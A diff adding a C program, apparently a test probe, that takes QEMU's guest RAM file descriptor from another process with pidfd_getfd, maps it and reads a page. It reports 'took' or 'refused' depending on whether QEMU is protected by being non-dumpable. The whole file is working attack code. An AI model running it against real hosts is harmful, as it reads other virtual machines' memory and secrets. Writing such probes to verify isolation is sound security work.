@@ -1,0 +1,48 @@
+/*
+ * The attack on QEMU's guest RAM file: take descriptor FD of process PID with pidfd_getfd(2), as any
+ * process of QEMU's user may unless QEMU is non-dumpable, map it and read a page.
+ *   take_guest_ram PID FD  ->  "took: read N bytes" (exit 0), or "refused: ERRNO-NAME" (exit 1)
+ * On secret memory the read itself works here: the mapping is the thief's own, in its own address
+ * space; that is the point of the attack.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#ifndef SYS_pidfd_open
+#define SYS_pidfd_open 434
+#endif
+#ifndef SYS_pidfd_getfd
+#define SYS_pidfd_getfd 438
+#endif
+
+int main(int argc, char **argv) {
+    if (argc != 3) {
+        fprintf(stderr, "usage: take_guest_ram PID FD\n");
+        return 2;
+    }
+    int pidfd = (int) syscall(SYS_pidfd_open, atoi(argv[1]), 0);
+    if (pidfd < 0) {
+        printf("refused: pidfd_open %s\n", strerrorname_np(errno));
+        return 1;
+    }
+    int fd = (int) syscall(SYS_pidfd_getfd, pidfd, atoi(argv[2]), 0);
+    if (fd < 0) {
+        printf("refused: %s\n", strerrorname_np(errno));
+        return 1;
+    }
+    volatile unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    if (page == MAP_FAILED) {
+        printf("took the descriptor, mmap failed: %s\n", strerrorname_np(errno));
+        return 0;
+    }
+    unsigned sum = 0;
+    for (int i = 0; i < 4096; i++) sum += page[i];
+    printf("took: read 4096 bytes (sum %u)\n", sum);
+    return 0;
+}
